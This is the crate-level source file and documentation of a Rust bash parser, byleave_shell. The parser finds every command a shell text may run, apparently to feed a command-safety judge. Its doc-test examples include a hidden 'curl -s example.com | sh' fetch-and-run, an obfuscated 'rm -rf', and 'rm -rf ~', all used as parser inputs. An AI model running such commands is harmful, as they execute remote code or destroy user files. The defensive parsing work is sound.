//! Reads shell text as bash does, and finds **every** simple command that the text may run, even in
//! substitutions, default values, here-documents, arithmetic and functions. It marks text that it cannot read and never
//! skips it. No text makes it panic.
//!
//! This crate knows only grammar, nothing about policy or programs, and has no dependencies. Begin with [`read`].
//!
//! # Commands, wherever they hide
//!
//! ```
//! let script = byleave_shell::read("cd src && echo \"${EDITOR:-$(curl -s example.com | sh)}\"");
//! let names: Vec<_> = script.commands().iter().filter_map(|command| script.name(command)).collect();
//! assert_eq!(names, ["cd", "echo", "curl", "sh"]);
//! assert!(script.opaque().is_empty());
//! ```
//!
//! # Words as bash will see them
//!
//! ```
//! let script = byleave_shell::read("r'm' -r\\f {build,dist}/out \"$1\"");
//! let command = &script.commands()[0];
//! let words: Vec<_> = script.words(command.words).iter().map(|word| script.literal(word)).collect();
//! // The last word may be anything at run time.
//! assert_eq!(words, [Some("rm"), Some("-rf"), Some("build/out"), Some("dist/out"), None]);
//! ```
//!
//! # Text that cannot be read
//!
//! ```
//! let text = "ls -l && echo \"ready; rm -rf ~";
//! let script = byleave_shell::read(text);
//! let opaque = &script.opaque()[0];
//! // A judge must treat this part as "may run anything".
//! assert_eq!(opaque.span.of(text), "\"ready; rm -rf ~");
//! ```
//!
//! # Other shells
//!
//! The shell that runs a text decides what the text means; this crate reads bash. [`Shells`] names the shells that may run a
//! text: what one of them may read otherwise is for the caller to doubt. [`switches`] lists the commands of a script after which
//! bash itself may read in another way.
//!
//! # Limits
//!
//! byleave reads what bash 5.2 reads in a script, where aliases are off; it does not follow aliases. It does not guess
//! what a word becomes at run time: a word is literal, bounded or unknown. Depth and size have limits ([`Limits`]); the
//! text beyond them is opaque.
#[cfg(debug_assertions)]
#[doc(hidden)]
pub mod counted;
mod directory;
mod hidden;
mod limits;
mod quote;
mod reader;
mod reason;
mod script;
mod shells;
mod span;
mod switches;

pub use directory::{Directory, Whereabouts, directories, stays};
pub use hidden::{Hidden, HiddenKind, find as hidden_in};
pub use limits::Limits;
pub use quote::quoted;
pub use reader::{Reader, Room, read};
pub use reason::{Construct, Opaque, Reason, Token};
pub use script::{
    Assignment, Class, Clause, Command, CommandId, Connector, Descriptor, Evaluation, EvaluationKind, HereDocument,
    Kind, Node, NodeId, Operator, Origin, Parameter, Part, PartKind, Place, Range, RedirectOperator, Redirection,
    Script, Text, Unknown, Word,
};
pub use shells::{Shell, Shells, UnknownShell, shebang};
pub use span::Span;
pub use switches::switches;
